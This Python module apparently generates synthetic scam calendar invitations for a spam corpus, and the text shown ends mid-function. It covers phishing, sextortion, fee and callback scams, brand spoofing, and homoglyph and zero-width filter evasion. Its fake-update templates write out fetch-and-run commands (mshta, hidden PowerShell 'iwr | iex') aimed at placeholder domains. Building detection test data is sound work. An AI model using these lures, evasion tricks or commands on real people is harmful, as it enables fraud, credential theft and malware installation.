"""Spam categories for corpus/holdout6."""
import datetime as dt

from core import LANGS, html_from_text, ascii_fold

PARCEL_BRAND = {'de': ('DHL', 'dhl.de'), 'fr': ('Colissimo', 'laposte.fr'), 'es': ('Correos', 'correos.es'), 'it': ('Poste Italiane', 'posteitaliane.it'),
                'pt': ('Correios', 'correios.com.br'), 'nl': ('PostNL', 'postnl.nl'), 'pl': ('InPost', 'inpost.pl'), 'sv': ('PostNord', 'postnord.se'),
                'tr': ('PTT', 'ptt.gov.tr'), 'ru': ('Почта России', 'pochta.ru'), 'el': ('ΕΛΤΑ', 'elta.gr'), 'ar': ('Aramex', 'aramex.com'),
                'he': ('דואר ישראל', 'israelpost.co.il'), 'ja': ('佐川急便', 'sagawa-exp.co.jp'), 'zh': ('顺丰速运', 'sf-express.com'), 'ko': ('CJ대한통운', 'cjlogistics.com')}
BANK_BRAND = {'de': ('Sparkasse', 'sparkasse.de'), 'fr': ('Crédit Agricole', 'credit-agricole.fr'), 'es': ('BBVA', 'bbva.es'),
              'it': ('Intesa Sanpaolo', 'intesasanpaolo.com'), 'pt': ('Itaú', 'itau.com.br'), 'nl': ('ING', 'ing.nl'), 'pl': ('PKO BP', 'pkobp.pl'),
              'sv': ('BankID', 'bankid.com'), 'tr': ('Ziraat Bankası', 'ziraatbank.com.tr'), 'ru': ('Сбербанк', 'sberbank.ru'),
              'el': ('Εθνική Τράπεζα', 'nbg.gr'), 'ar': ('مصرف الراجحي', 'alrajhibank.com.sa'), 'he': ('בנק לאומי', 'leumi.co.il'),
              'ja': ('三井住友カード', 'smbc-card.com'), 'zh': ('支付宝', 'alipay.com'), 'ko': ('네이버', 'naver.com')}
from build import mk, setup_for, invite_text, fill, FREEMAIL, REGIONAL_FREEMAIL
from mail import ip4

ZW = ['\u200b', '\u200c', '\u200d', '\u2060']
HOMO = {'a': 'а', 'e': 'е', 'o': 'о', 'p': 'р', 'c': 'с', 'x': 'х', 'y': 'у', 'i': 'і', 'O': 'О', 'M': 'М', 'P': 'Р', 'C': 'С'}


def zw(ctx, s, every=2):
    out = ''
    for i, ch in enumerate(s):
        out += ch
        if ch.isalpha() and i % every == 1:
            out += ctx.choice(ZW)
    return out


def homo(ctx, s, n=2):
    idx = [i for i, c in enumerate(s) if c in HOMO]
    ctx.r.shuffle(idx)
    chars = list(s)
    for i in idx[:n]:
        chars[i] = HOMO[chars[i]]
    return ''.join(chars)


def slug(ctx, n=8):
    return ctx.alnum(n)


def lure_url(ctx, kind=None, brand='secure'):
    kind = kind or ctx.choice(['short', 'redir', 'hosting', 'form', 'lookalike', 'lookalike'])
    tail = slug(ctx, 10)
    if kind == 'short':
        return ctx.choice(['https://bit.ly/', 'https://tinyurl.com/', 'https://t.co/', 'https://is.gd/', 'https://cutt.ly/', 'https://rb.gy/']) + slug(ctx, 7)
    if kind == 'redir':
        target = 'https://%s-%s.test/%s' % (brand, ctx.choice(['verify', 'login', 'portal', 'support']), tail)
        return ctx.choice(['https://www.google.com/url?q=%s&sa=D&ust=%d' % (target, ctx.r.randrange(10 ** 15, 10 ** 16)),
                           'https://l.facebook.com/l.php?u=%s&h=%s' % (target.replace(':', '%3A').replace('/', '%2F'), slug(ctx, 12)),
                           'https://www.bing.com/ck/a?!&&p=%s&u=a1%s' % (ctx.hexs(40), slug(ctx, 30)),
                           'https://t.nypost.com/redirect?url=%s' % target])
    if kind == 'hosting':
        return ctx.choice(['https://%s-%s.web.app/' % (brand, slug(ctx, 5).lower()), 'https://%s.pages.dev/%s' % (slug(ctx, 9).lower(), tail),
                           'https://ipfs.io/ipfs/Qm%s' % ctx.alnum(44), 'https://storage.googleapis.com/%s/index.html#%s' % (slug(ctx, 10).lower(), tail),
                           'https://%s.firebaseapp.com/?%s' % (slug(ctx, 8).lower(), tail), 'https://sites.google.com/view/%s' % slug(ctx, 9).lower(),
                           'https://%s.blob.core.windows.net/%s/index.html' % (slug(ctx, 8).lower(), slug(ctx, 6).lower())])
    if kind == 'form':
        return ctx.choice(['https://docs.google.com/forms/d/e/1FAIpQL%s/viewform' % ctx.alnum(50), 'https://forms.office.com/r/%s' % ctx.alnum(10),
                           'https://docs.google.com/drawings/d/1%s/preview' % ctx.alnum(42), 'https://form.jotform.com/%d' % ctx.r.randrange(10 ** 14, 10 ** 15)])
    return 'https://%s-%s.%s/%s' % (brand, ctx.choice(['verify', 'account', 'secure', 'help', 'billing', 'redelivery', 'claim']),
                                    ctx.choice(['test', 'example']), ctx.choice(['', 'auth/', 'login?id=', 'c/']) + tail)


def free_sender(ctx, lang=None, prefer=None):
    """A spammer's (or a person's) free-mail identity: (name, addr, client, setup)."""
    lang = lang or ctx.lang
    name, first, loc = ctx.person(lang)
    kind = prefer or ctx.choice(['google', 'google', 'outlook', 'yahoo', 'icloud'])
    dom = ctx.choice(FREEMAIL[kind])
    loc = loc.replace('.', ctx.choice(['', '.', '_'])) + str(ctx.r.randrange(1, 999))
    a = '%s@%s' % (loc, dom)
    client = {'google': 'google', 'outlook': 'outlook', 'yahoo': 'yahoo', 'icloud': 'apple'}[kind]
    return name, a, client, kind


def std_event(ctx, summary, desc, loc=None, days=(0, 3), dur=60, tzid=None, **kw):
    tzid = tzid or ctx.tz()
    st = ctx.start(tzid, *days, hours=kw.pop('hours', (8, 20)))
    ev = dict(summary=summary, description=desc, location=loc, start=st, end=st + dt.timedelta(minutes=dur), tzid=tzid)
    ev.update(kw)
    return ev


def simple_send(ctx, frm_name, frm_addr, client, kind, subject, ev, text, rcpt, others=(), **kw):
    setup = kw.pop('setup', None) or setup_for(ctx, client, frm_addr, kind)
    to = [(rcpt[0], rcpt[2])] + list(others)
    return mk(ctx, client, (frm_name, frm_addr), to, subject, text, ev, setup, **kw)


def google_subject(ev, rcpt_addr):
    st = ev['start']
    return 'Invitation: %s @ %s %s %d, %d %s (%s)' % (ev['summary'], st.strftime('%a'), st.strftime('%b'), st.day, st.year,
                                                     st.strftime('%I%p').lstrip('0').lower(), rcpt_addr)


# ------------------------------------------------------------------ categories

def retail_sale(ctx):
    rc = ctx.recipient()
    items = [('Ray-Ban Sunglasses', '$19.99'), ('Michael Kors Handbags', '$29.99'), ('UGG Boots Clearance', '$39.99'),
             ('Oakley Outlet', '$19.99'), ('Pandora Charms', '$9.99'), ('Nike Air Max', '$49.99'), ('Canada Goose Parka', '$89.99')]
    it, price = ctx.choice(items)
    season = ctx.choice(['Black Friday', 'Cyber Monday', 'Christmas', 'Holiday', 'Clearance'])
    summ = ctx.choice(['%s %s %s 90%% OFF' % (season, it, price), '%s only %s today' % (it, price), '%s Sale!! %s - %s' % (season, it, price)])
    if ctx.r.random() < 0.4:
        summ = homo(ctx, summ, 3)
    site = 'www.%s%s.%s' % (ctx.choice(['rb', 'mk', 'ugg', 'shoes', 'outlet']), ctx.choice(['sale', 'deal', 'shop', '2016']) + str(ctx.r.randrange(10, 99)), ctx.choice(['test', 'example']))
    desc = ctx.choice(['%s %s %s\nFree shipping worldwide. Shop now: http://%s' % (season, it, price, site),
                       '%s %s\nhttp://%s' % (it, price, site), '', 'Order now http://%s  Limited stock!!!' % site])
    name, a, client, kind = free_sender(ctx, 'en', ctx.choice(['icloud', 'icloud', 'google', 'yahoo']))
    name = ctx.choice([name, 'Sale', 'Outlet Store', summ.split(' ')[0]])
    others = [('', '%s%d@%s' % (ctx.choice(['j', 'm', 'k', 'anna', 'tom', 'li']), ctx.r.randrange(10, 9999), ctx.choice(['example.net', 'icloud.com', 'gmail.com', 'yahoo.com']))) for _ in range(ctx.r.randrange(3, 25))]
    ev = std_event(ctx, summ, desc, loc=ctx.choice(['http://' + site, site, '', None]), days=(0, 2), tzid='America/Los_Angeles')
    if not desc:
        ev['alt_desc'] = '<html><body><a href="http://%s"><img src="http://%s/img/%s.jpg"></a><br><b>%s</b></body></html>' % (site, site, ctx.alnum(6), summ)
    text = invite_text(ctx, ev, desc)
    subj = google_subject(ev, rc[2]) if client == 'google' else ('Invitation: ' + summ if client == 'apple' else summ)
    return simple_send(ctx, name, a, client, kind, subj, ev, text, rc, others), 'iCloud-era retail sale invitation'


def prize_survey(ctx):
    rc = ctx.recipient()
    url = lure_url(ctx, ctx.choice(['form', 'hosting', 'short', 'redir']), 'reward')
    if ctx.lang != 'en':
        subj, body = fill(ctx, 'prize', n=rc[1], u=url, a=ctx.amount(2, 5))
        summ = subj
    else:
        brand = ctx.choice(['Walmart', 'Costco', 'Amazon', 'Target', 'Kroger', 'Lowe\'s', 'AT&T', 'Verizon'])
        val = ctx.choice(['$500', '$1,000', '$750', '$100'])
        t = ctx.r.randrange(4)
        if t == 0:
            summ = 'Congratulations! You have been selected for a %s %s Gift Card' % (val, brand)
            body = 'Dear %s Customer,\n\nYou have been selected to take part in our 30-second survey. Complete it and claim your %s gift card: %s\n\nOffer expires today.' % (brand, val, url)
        elif t == 1:
            summ = 'Your %s reward is waiting (ref %s)' % (brand, ctx.code(8, True))
            body = 'You are our lucky visitor today! Answer 4 questions to receive your reward. Only shipping %s.\n%s' % (ctx.amount(1, 5), url)
        elif t == 2:
            summ = 'FINAL NOTICE: unclaimed %s Loyalty Points' % brand
            body = 'your points expire in 24h, redeem now for a Dyson V15 or a KitchenAid mixer. %s' % url
        else:
            summ = 'u won!! claim ur prize'
            body = url
        if ctx.r.random() < 0.4:
            summ = zw(ctx, summ)
    ev = std_event(ctx, summ, body, loc=ctx.choice([url, '', 'Online']), days=(0, 2), dur=ctx.choice([15, 30, 60]))
    style = ctx.r.random()
    desc_mode = ''
    if style < 0.25:
        ev['alt_desc'] = '<html><body><h2>%s</h2><p><a href="%s">CLAIM NOW</a></p></body></html>' % (summ, url)
        ev['description'] = ''
        desc_mode = ', payload only in X-ALT-DESC'
    if ctx.r.random() < 0.3:
        ev['alarms'] = ['-PT%dM' % m for m in (0, 5, 15, 30, 60)]
    kind = ctx.choice(['free', 'free', 'spoof', 'trial'])
    if kind == 'free':
        name, a, client, k = free_sender(ctx)
        text = invite_text(ctx, ev, ev['description'])
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, name, a, client, k, subj, ev, text, rc), 'prize/survey lure from free mail' + desc_mode
    if kind == 'trial':
        ten = ctx.choice(['rewardsdept', 'promo%d' % ctx.r.randrange(100, 999), 'customercare' + ctx.alnum(4).lower(), 'NETORG' + str(ctx.r.randrange(10 ** 6, 10 ** 7))])
        a = '%s@%s.onmicrosoft.com' % (ctx.choice(['admin', 'info', 'rewards', 'support']), ten.lower())
        text = invite_text(ctx, ev, ev['description'])
        return simple_send(ctx, ctx.choice(['Rewards Center', 'Customer Survey', 'Member Services']), a, 'outlook', 'outlook', summ, ev, text, rc), 'prize lure from a trial Microsoft 365 tenant' + desc_mode
    dom = ctx.choice(['walmart.com', 'costco.com', 'amazon.com', 'target.com'])
    a = ctx.choice(['rewards', 'survey', 'no-reply']) + '@' + dom
    text = '' if ctx.r.random() < 0.5 else 'Open the attached invitation.'
    setup = setup_for(ctx, 'php', a, 'spoof', mailfrom='%s@%s' % (ctx.alnum(8).lower(), ctx.choice(['cloudvps.test', 'hostbox.example'])), spf=ctx.choice(['pass', 'none']))
    return simple_send(ctx, 'Customer Rewards', a, ctx.choice(['php', 'icsonly']), None, summ, ev, text, rc, setup=setup, ics_style='empty-text'), 'spoofed brand prize lure, payload in the .ics' + desc_mode


def crypto_invest(ctx):
    rc = ctx.recipient()
    url = lure_url(ctx, ctx.choice(['lookalike', 'short', 'hosting']), ctx.choice(['coinx', 'btc', 'aitrade', 'quantum']))
    if ctx.lang != 'en':
        summ, body = fill(ctx, 'invest', u=url, n=rc[1])
    else:
        t = ctx.r.randrange(4)
        if t == 0:
            summ, body = 'Your Bitcoin balance: 0.8127 BTC ready for withdrawal', 'Your account has been credited with 0.8127 BTC (≈ $%s). Confirm withdrawal within 48h: %s' % ('{:,}'.format(ctx.r.randrange(20000, 60000)), url)
        elif t == 1:
            summ, body = 'Quantum AI trading – consultation call', 'Thank you for registering. Your personal account manager will call you at this time to activate your trading account. Minimum deposit $250.\nPlatform: %s' % url
        elif t == 2:
            summ, body = 'LIVE: 5,000 ETH giveaway ends in 2 hours', 'Send 0.1–20 ETH and receive double back. Event page: %s' % url
        else:
            summ, body = 'Retirement income webinar – guaranteed 12% monthly', 'Join our private webinar and learn how ordinary families earn passive income with our AI bot.\n%s' % url
    ev = std_event(ctx, summ, body, loc=ctx.choice(['Zoom', url, 'Online']), days=(0, 5), dur=ctx.choice([30, 45, 60]))
    how = ctx.choice(['conference', 'url', 'plain', 'plain'])
    if how == 'conference':
        ev['conference'] = url
        ev['conference_label'] = 'Join livestream'
    elif how == 'url':
        ev['url'] = url
    kind = ctx.choice(['free', 'free', 'trial', 'lookalike'])
    if kind == 'free':
        name, a, client, k = free_sender(ctx)
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, name, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'crypto/investment lure from free mail (link in %s)' % how
    if kind == 'trial':
        a = 'support@%s%d.onmicrosoft.com' % (ctx.choice(['coinvest', 'btcpro', 'quantfund', 'wealthdesk']), ctx.r.randrange(10, 99))
        return simple_send(ctx, 'Account Manager', a, 'outlook', 'outlook', summ, ev, invite_text(ctx, ev, body), rc), 'crypto lure from a trial Microsoft 365 tenant'
    dom = '%s-%s.%s' % (ctx.choice(['quantum', 'bitvest', 'coinrise', 'ai-yield']), ctx.choice(['capital', 'markets', 'pro']), ctx.choice(['test', 'example']))
    a = 'events@' + dom
    setup = setup_for(ctx, 'esp', a, 'esp')
    return simple_send(ctx, 'Investor Relations', a, 'esp', None, summ, ev, invite_text(ctx, ev, body), rc, setup=setup, html_style='rich'), 'crypto lure from a fresh domain with its own DKIM via an ESP'


def dating_sextortion(ctx):
    rc = ctx.recipient()
    if ctx.r.random() < 0.5:
        nm = ctx.choice(['Anna', 'Kristina', 'Lena', 'Olga', 'Sofia', 'Jessica'])
        url = lure_url(ctx, ctx.choice(['short', 'lookalike', 'hosting']), 'meet')
        summ = ctx.choice(['%s (%d) wants to meet you tonight' % (nm, ctx.r.randrange(21, 34)), 'Date with %s 💋' % nm, 'Hi handsome, are you free?'])
        body = ctx.choice(['Hi, I saw your profile and I liked it. I live near you. Write me here: %s' % url,
                           'i am bored tonight.. see my photos %s' % url, 'Hello dear, I am %s. My private photos here: %s' % (nm, url)])
        if ctx.r.random() < 0.4:
            body = zw(ctx, body, 3)
        ev = std_event(ctx, summ, body, loc=url if ctx.r.random() < 0.5 else '', days=(0, 1), hours=(19, 23))
        name, a, client, k = free_sender(ctx, 'en')
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, nm, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'dating lure'
    wallet = 'bc1q' + ''.join(ctx.r.choice('023456789acdefghjklmnpqrstuvwxyz') for _ in range(38))
    amt = ctx.choice(['1200', '1450', '950', '2000'])
    body = ('Hello!\n\nI am a hacker who has access to your operating system. I also have full access to your account %s.\n'
            'I recorded a video of you while you were watching adult sites. Transfer %s USD in Bitcoin to my wallet: %s\n'
            'You have 48 hours after opening this. Do not reply, this mailbox is not monitored.') % (rc[2], amt, wallet)
    if ctx.r.random() < 0.5:
        body = body.replace('hacker', 'h\u200backer').replace('video', 'vi\u200cdeo')
    summ = ctx.choice(['Payment deadline', 'Your account is hacked', 'Last warning', rc[2]])
    ev = std_event(ctx, summ, body, days=(2, 2), dur=30)
    ev['alarms'] = ['-PT1H', '-PT10M', 'PT0S']
    # sender forged as the recipient's own address
    setup = setup_for(ctx, 'python', rc[2], 'spoof', mailfrom=rc[2], spf='softfail', policy='none', dmarc='fail')
    setup['from_dom'] = rc[2].split('@')[1]
    return simple_send(ctx, '', rc[2], ctx.choice(['python', 'icsonly']), None, summ, ev, '' if ctx.r.random() < 0.5 else body, rc, setup=setup), 'sextortion with a BTC wallet, From forged as the recipient'


FEES = [
    ('USPS', 'usps.com', 'Your package is on hold – redelivery fee {a}', 'USPS: We could not deliver your package due to an incomplete address. Pay the {a} redelivery fee within 12 hours: {u}', (1, 3)),
    ('E-ZPass', 'ezpassny.com', 'Unpaid toll balance {a} – avoid late fee', 'Our records show an unpaid toll of {a}. To avoid a late fee of $50.00 and suspension of your driving privileges pay by today: {u}', (3, 12)),
    ('The Toll Roads', 'thetollroads.com', 'Notice of toll evasion #{c}', 'You have an outstanding toll invoice of {a}. Pay now: {u}', (4, 9)),
    ('HMRC', 'hmrc.gov.uk', 'HMRC: you are eligible for a tax refund of {a}', 'After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of {a}. Submit the form within 3 days: {u}', (200, 900)),
    ('Royal Mail', 'royalmail.com', 'Royal Mail: parcel awaiting shipping fee {a}', 'Your parcel {c} is waiting. A shipping fee of {a} is outstanding: {u}', (1, 3)),
    ('DVLA', 'dvla.gov.uk', 'DVLA: vehicle tax payment failed', 'Your latest vehicle tax payment failed. Update your payment details to avoid a fine of £1,000: {u}', (1, 2)),
    ('Parking Services', 'parking-notice.test', 'Penalty Charge Notice {c} unpaid', 'A Penalty Charge Notice was issued to your vehicle. Pay {a} within 14 days to avoid escalation: {u}', (35, 70)),
    ('IRS', 'irs.gov', 'IRS: Final notice of tax debt', 'You owe {a} in back taxes. Call our resolution department today at {ph} to avoid a lien.', (1200, 4800)),
]


def fee_scam(ctx):
    rc = ctx.recipient()
    url = lure_url(ctx, ctx.choice(['lookalike', 'lookalike', 'short', 'redir', 'hosting']), ctx.choice(['parcel', 'toll', 'refund', 'track']))
    if ctx.lang != 'en':
        summ, body = fill(ctx, 'parcel', u=url, c=ctx.code(12, True), a=ctx.amount(1, 4))
        brand, bdom = PARCEL_BRAND[ctx.lang]
    else:
        brand, bdom, s, b, rng = ctx.choice(FEES)
        cur = '£' if bdom.endswith('.uk') or brand in ('Royal Mail', 'Parking Services') else '$'
        vals = dict(a=ctx.amount(*rng, cur=cur), u=url, c=ctx.code(10, True), ph=ctx.phone('en', 'us'))
        summ, body = s.format(**vals), b.format(**vals)
        if ctx.r.random() < 0.3:
            summ = homo(ctx, summ, 2)
    ev = std_event(ctx, summ, body, loc=ctx.choice(['', url, brand + ' Online']), days=(0, 1), dur=30)
    if ctx.r.random() < 0.3:
        ev['attach'] = [url]
    kind = ctx.choice(['spoof', 'spoof', 'lookalike', 'free'])
    if kind == 'spoof':
        a = ctx.choice(['noreply', 'info', 'notification', 'support']) + '@' + bdom
        setup = setup_for(ctx, 'php', a, 'spoof', mailfrom='%s@%s' % (ctx.alnum(6).lower(), ctx.choice(['vps-mail.test', 'hostbox.example'])), spf=ctx.choice(['pass', 'none', 'softfail']))
        return simple_send(ctx, brand, a, ctx.choice(['php', 'node', 'icsonly']), None, summ, ev, ctx.choice([body, '', body]), rc, setup=setup), 'fee scam, spoofed %s from a VPS' % brand
    if kind == 'lookalike':
        dom = '%s-%s.%s' % (ascii_fold(bdom.split('.')[0]).lower().replace('-', ''), ctx.choice(['track', 'pay', 'notice', 'services']), ctx.choice(['test', 'example']))
        a = 'notice@' + dom
        setup = setup_for(ctx, 'node', a, 'own', selector='s1')
        return simple_send(ctx, brand, a, 'node', None, summ, ev, body, rc, setup=setup), 'fee scam from a fresh look-alike domain with its own DKIM'
    name, a, client, k = free_sender(ctx)
    subj = google_subject(ev, rc[2]) if client == 'google' else summ
    return simple_send(ctx, brand, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'fee scam from free mail'


PHISH = [
    ('Microsoft 365', 'microsoft.com', 'Password expires today', 'Your Microsoft 365 password for {r} expires today. Keep your current password here: {u}'),
    ('Microsoft 365', 'microsoft.com', 'You have (3) new voicemail messages', 'Voicemail from +1 (312) 555-0143, 0:48 sec. Listen: {u}'),
    ('DocuSign', 'docusign.net', 'Please review and sign: Payment_Agreement_{c}.pdf', 'You have received a document to review and sign.\nREVIEW DOCUMENT: {u}\nThis message was sent to you by DocuSign Electronic Signature Service.'),
    ('PayPal', 'paypal.com', 'Unusual activity on your account', 'We noticed a login from a new device. If this was not you, secure your account: {u}'),
    ('Adobe', 'adobe.com', 'Adobe Acrobat: a PDF was shared with you', '1 secured PDF document. View document: {u}'),
    ('Chase', 'chase.com', 'Chase Alert: your account is locked', 'We have locked your account after multiple failed sign-in attempts. Verify your identity: {u}'),
    ('HSBC', 'hsbc.co.uk', 'Important: new payee added', 'A new payee was added to your account. If you did not do this, cancel here: {u}'),
    ('Wells Fargo', 'wellsfargo.com', 'Action required: update your profile', 'Your online access has been limited. Restore access: {u}'),
    ('GOV.UK', 'gov.uk', 'Cost of living payment – apply by Friday', 'You are eligible for a £650 cost of living payment. Apply here: {u}'),
    ('Social Security Administration', 'ssa.gov', 'Your Social Security statement is ready', 'Download your annual statement: {u}'),
    ('Netflix', 'netflix.com', 'Your membership is on hold', 'We could not authorise your last payment. Update your billing details: {u}'),
    ('Apple', 'apple.com', 'Your Apple ID has been locked', 'Your Apple ID was locked for security reasons. Unlock it: {u}'),
]


def phish_brand(ctx):
    rc = ctx.recipient()
    brand, bdom, s, b = ctx.choice(PHISH)
    bslug = brand.lower().split(' ')[0].replace('.', '')
    url = lure_url(ctx, ctx.choice(['lookalike', 'redir', 'hosting', 'form', 'short']), bslug)
    if ctx.lang != 'en':
        brand, bdom = ctx.choice([BANK_BRAND[ctx.lang], BANK_BRAND[ctx.lang], ('Microsoft', 'microsoft.com'), ('PayPal', 'paypal.com')])
        bslug = ascii_fold(bdom.split('.')[0]).lower()
        url = lure_url(ctx, ctx.choice(['lookalike', 'redir', 'hosting', 'form', 'short']), bslug)
        summ, body = fill(ctx, 'phish', u=url)
        summ = '%s: %s' % (brand, summ)
    else:
        summ, body = s.format(c=ctx.code(6, True), u=url, r=rc[2]), b.format(c=ctx.code(6, True), u=url, r=rc[2])
    obf = ctx.choice(['none', 'homoglyph', 'zw', 'altdesc', 'attach', 'location'])
    if obf == 'homoglyph':
        summ = homo(ctx, summ, 2)
    elif obf == 'zw':
        summ = zw(ctx, summ, 3)
    ev = std_event(ctx, summ, body, days=(0, 1), dur=30)
    if obf == 'altdesc':
        ev['description'] = ''
        ev['alt_desc'] = '<html><body><table><tr><td style="background:#0078d4;color:#fff;padding:12px"><b>%s</b></td></tr><tr><td>%s</td></tr><tr><td><a href="%s">Continue</a></td></tr></table></body></html>' % (brand, summ, url)
    elif obf == 'attach':
        ev['attach'] = [('application/pdf', url)]
    elif obf == 'location':
        ev['location'] = url
    kind = ctx.choice(['spoof', 'spoof', 'compromised', 'trial', 'lookalike'])
    if kind == 'spoof':
        a = ctx.choice(['no-reply', 'security', 'account-security-noreply', 'dse', 'service']) + '@' + bdom
        setup = setup_for(ctx, 'php', a, 'spoof', mailfrom=ctx.choice([a, 'www-data@' + ctx.choice(['srv%d.vpsland.test' % ctx.r.randrange(1, 99), 'mail.hostbox.example'])]))
        client = ctx.choice(['php', 'python', 'node', 'icsonly'])
        text = ctx.choice([body, '', 'Please see the attached calendar item.'])
        return simple_send(ctx, brand, a, client, None, summ, ev, text, rc, setup=setup, ics_style='empty-text'), '%s credential phish, spoofed from a VPS (%s)' % (brand, obf)
    if kind == 'compromised':
        dom = ctx.choice(['greyfield-accounting.example', 'tidewater-clinic.example', 'ostara-bau.example', 'lakeside-dental.test', 'pinecrest-realty.example'])
        nm, first, loc = ctx.person()
        a = '%s@%s' % (loc, dom)
        client = ctx.choice(['outlook', 'outlook', 'thunderbird'])
        setup = setup_for(ctx, client, a, 'outlook' if client == 'outlook' else 'own')
        return simple_send(ctx, nm, a, client, None, summ, ev, invite_text(ctx, ev, body), rc, setup=setup), '%s phish sent from a compromised, authenticated mailbox' % brand
    if kind == 'trial':
        a = '%s@%s.onmicrosoft.com' % (ctx.choice(['admin', 'it', 'notification']), ctx.choice(['securemail', 'docshare', 'helpdesk', 'msverify']) + str(ctx.r.randrange(100, 9999)))
        return simple_send(ctx, brand + ' Support', a, 'outlook', 'outlook', summ, ev, invite_text(ctx, ev, body), rc), '%s phish from a trial Microsoft 365 tenant' % brand
    dom = '%s-%s.%s' % (bslug, ctx.choice(['secure', 'notice', 'mail', 'id']), ctx.choice(['test', 'example']))
    a = 'noreply@' + dom
    setup = setup_for(ctx, 'esp', a, 'esp')
    return simple_send(ctx, brand, a, 'esp', None, summ, ev, invite_text(ctx, ev, body), rc, setup=setup, html_style='rich'), '%s phish from a look-alike domain with its own DKIM' % brand


def callback(ctx):
    rc = ctx.recipient()
    ph = ctx.phone('en', 'us')
    amt = ctx.amount(299, 799)
    inv = ctx.code(9, True)
    if ctx.lang != 'en':
        summ, body = fill(ctx, 'callback', a=ctx.amount(199, 699), c=inv, ph=ctx.phone(ctx.lang, 'us'))
    else:
        t = ctx.r.randrange(6)
        brand = ctx.choice(['Geek Squad', 'Norton LifeLock', 'McAfee', 'PayPal', 'Best Buy', 'Microsoft Support'])
        if t == 0:
            summ, body = 'Order Confirmation #%s' % inv, 'Thank you for renewing your %s Total Protection. %s has been charged to your account. If you did not authorise this, call %s within 24 hours for a full refund.' % (brand, amt, ph)
        elif t == 1:
            summ, body = '%s Invoice %s' % (brand, inv), 'Product: Annual Subscription\nAmount: %s\nPayment: Auto-debit\nQuestions? Call billing: %s' % (amt, ph)
        elif t == 2:
            summ, body = 'call %s' % ph, 'your subscription renewed %s. to cancel call %s' % (amt, ph)
        elif t == 3:
            summ, body = 'Windows Defender: firewall breach detected', 'Do not shut down your computer. Call Microsoft Certified Technicians: %s' % ph
        elif t == 4:
            summ, body = 'You sent a payment of %s to Coinbase' % amt, 'If you did not make this payment, contact PayPal Resolution Center: %s' % ph
        else:
            summ, body = 'Reminder', 'Hi, please call me back about your account renewal when you get a moment. %s' % ph
        if ctx.r.random() < 0.3:
            summ = zw(ctx, summ)
    ev = std_event(ctx, summ, body, loc=ctx.choice(['', ph, 'Phone call']), days=(0, 1), dur=ctx.choice([15, 30]))
    kind = ctx.choice(['free', 'free', 'free', 'trial', 'spoof'])
    if kind == 'free':
        name, a, client, k = free_sender(ctx, 'en', ctx.choice(['google', 'google', 'outlook', 'yahoo']))
        name = ctx.choice([name, 'Billing Department', 'Customer Support', 'Renewal Team'])
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, name, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'callback scam built around a phone number, free mail'
    if kind == 'trial':
        a = 'billing@%s%d.onmicrosoft.com' % (ctx.choice(['invoicedesk', 'renewalsupport', 'ordercenter']), ctx.r.randrange(10, 999))
        return simple_send(ctx, 'Billing', a, 'outlook', 'outlook', summ, ev, invite_text(ctx, ev, body), rc), 'callback scam from a trial Microsoft 365 tenant'
    a = 'service@paypal.com'
    setup = setup_for(ctx, 'php', a, 'spoof')
    return simple_send(ctx, 'PayPal', a, 'php', None, summ, ev, body, rc, setup=setup, text_only=True), 'callback scam, spoofed PayPal from a VPS'


def fake_update(ctx):
    rc = ctx.recipient()
    dom = '%s-%s.%s' % (ctx.choice(['chrome', 'zoom', 'teams', 'edge', 'cdn']), ctx.choice(['update', 'download', 'client', 'verify']), ctx.choice(['test', 'example']))
    t = ctx.r.randrange(4)
    if t == 0:
        summ = 'Mandatory Zoom client update before the meeting'
        body = 'Your Zoom client is out of date and cannot join this meeting. Install the update first: https://%s/ZoomInstaller.exe' % dom
    elif t == 1:
        summ = 'Critical browser update required'
        body = 'Your browser version has a critical vulnerability. Download the security update: https://%s/update/%s.msi' % (dom, ctx.alnum(6))
    elif t == 2:
        summ = 'Verify you are human to open the shared file'
        body = ('To open the document complete verification:\n1. Press Windows + R\n2. Press Ctrl + V\n3. Press Enter\n\n'
                'If the button does not work paste this manually:\nmshta https://%s/%s  # I am not a robot - reCAPTCHA Verification ID: %d' % (dom, ctx.alnum(5), ctx.r.randrange(1000, 9999)))
    else:
        summ = 'IT: run the Teams fix before Monday'
        body = ('Teams is crashing for several users. Open PowerShell and paste:\npowershell -w hidden -c "iwr https://%s/fix.ps1 | iex"\nThanks, IT Service Desk' % dom)
    ev = std_event(ctx, summ, body, days=(0, 2), dur=30)
    if ctx.r.random() < 0.5:
        ev['attach'] = [('application/octet-stream', 'https://%s/%s' % (dom, ctx.choice(['setup.exe', 'update.msix', 'verify.hta'])))]
    kind = ctx.choice(['compromised', 'spoof', 'free'])
    if kind == 'compromised':
        dom2 = ctx.choice(['harbourview-legal.example', 'kestrel-freight.example', 'brightwater-labs.test'])
        nm, first, loc = ctx.person('en')
        a = '%s@%s' % (loc, dom2)
        return simple_send(ctx, nm, a, 'outlook', 'outlook', summ, ev, invite_text(ctx, ev, body), rc), 'fake update / paste-a-command lure from a compromised mailbox'
    if kind == 'spoof':
        a = 'no-reply@' + ctx.choice(['zoom.us', 'microsoft.com', 'google.com'])
        setup = setup_for(ctx, 'python', a, 'spoof')
        return simple_send(ctx, ctx.choice(['Zoom', 'IT Service Desk', 'Microsoft Teams']), a, 'python', None, summ, ev, body, rc, setup=setup), 'fake update lure, spoofed platform from a VPS'
    name, a, client, k = free_sender(ctx, 'en', 'google')
    return simple_send(ctx, 'IT Service Desk', a, client, k, google_subject(ev, rc[2]), ev, invite_text(ctx, ev, body), rc), 'paste-a-command lure via Google Calendar'


COMPANIES = [('Halvorsen Marine', 'halvorsen-marine.example'), ('Brightwater Labs', 'brightwater-labs.test'), ('Kestrel Freight', 'kestrel-freight.example'),
             ('Lumen Analytics', 'lumen-analytics.test'), ('Greyfield Accounting', 'greyfield-accounting.example'), ('Ostara Bau', 'ostara-bau.example'),
             ('Pinecrest Realty', 'pinecrest-realty.example'), ('Northgate Tooling', 'northgate-tooling.test')]


def lookalike(ctx, dom):
    n, t = dom.rsplit('.', 1)
    v = ctx.r.randrange(4)
    if v == 0 and 'm' in n:
